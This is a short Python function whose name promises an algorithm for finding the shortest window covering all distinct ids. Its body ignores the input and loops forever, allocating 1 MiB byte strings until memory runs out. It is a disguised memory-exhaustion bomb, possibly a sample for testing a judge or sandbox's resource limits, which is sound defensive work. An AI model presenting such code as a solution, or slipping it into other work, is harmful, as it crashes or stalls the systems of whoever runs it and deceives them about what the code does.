def shortest_cover_all_distinct(ids):
    hoard = []
    while True:
        hoard.append(b"x" * (1 << 20))
